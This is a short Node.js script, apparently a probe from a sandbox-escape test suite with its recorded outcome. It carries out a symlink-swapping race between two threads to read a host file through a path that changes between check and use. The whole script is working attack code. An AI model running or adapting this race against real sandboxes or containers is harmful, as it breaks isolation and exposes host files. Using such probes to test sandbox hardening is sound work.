// exploit: swaps a folder for a link to the host while another thread walks through it, in case a check and a use are two steps
// outcome: finished
// says: raced
const fs = require('node:fs')
const { Worker } = require('node:worker_threads')
fs.mkdirSync('/tmp/real/tmp', { recursive: true })
fs.symlinkSync('/', '/tmp/link')
const swap = "const fs = require('node:fs'); for (;;) { try { fs.renameSync('/tmp/real', '/tmp/turn'); fs.renameSync('/tmp/link', '/tmp/real'); fs.renameSync('/tmp/turn', '/tmp/link') } catch {} }"
const worker = new Worker(swap, { eval: true })
const until = Date.now() + 400
let tries = 0
while (Date.now() < until) {
  tries += 1
  for (const root of ['/tmp/real', '/tmp/link']) {
    try {
      console.log('ESCAPED', fs.readFileSync(`${root}__HOST_FILE__`, 'utf8'))
    } catch (error) {
      if (error.code !== 'ENOENT') console.log('ESCAPED', error.code)
    }
  }
}
console.log(tries > 10 ? 'raced' : 'too slow')
worker.terminate()
